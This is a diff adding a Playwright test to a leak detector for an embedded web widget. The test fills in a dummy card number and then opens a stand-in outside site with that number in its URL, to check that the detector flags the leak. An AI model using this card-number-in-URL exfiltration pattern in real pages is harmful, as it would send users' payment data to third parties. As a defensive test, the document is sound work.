@@ -68,6 +68,26 @@ test('a typed password is found in each place that it leaks to (J1)', async ({ p
   ]);
 });
 
+test('a typed number that the services never receive is found in the address of another site (J1)', async ({
+  page,
+  context,
+  demo,
+  openHostPage,
+}) => {
+  await context.route('https://other.example.test/**', (route) => route.fulfill({ body: '' }));
+  const findLeaks = await watchFlow(context, demo);
+  await openHostPage(configBlock(demo) + mountTag('svc-query') + loaderTag(demo), { path: '/en/host-page' });
+  const cardNumber = '7310180000000001';
+  const widget = mountPoint(page, 'svc-query');
+  await widget.getByLabel('Card number').fill(cardNumber);
+  await widget.getByLabel('PIN', { exact: true }).focus();
+  expect(await findLeaks(page)).toEqual([]);
+  const opened = context.waitForEvent('page');
+  await page.evaluate((number) => void window.open(`https://other.example.test/?card=${number}`), cardNumber);
+  await (await opened).waitForLoadState();
+  expect(await findLeaks(page)).toContainEqual(expect.stringMatching(/^address of a request: 7310180000000001/));
+});
+
 test('a password that the accessibility tree holds after one step is found, also when the page is closed (J1)', async ({
   page,
   context,
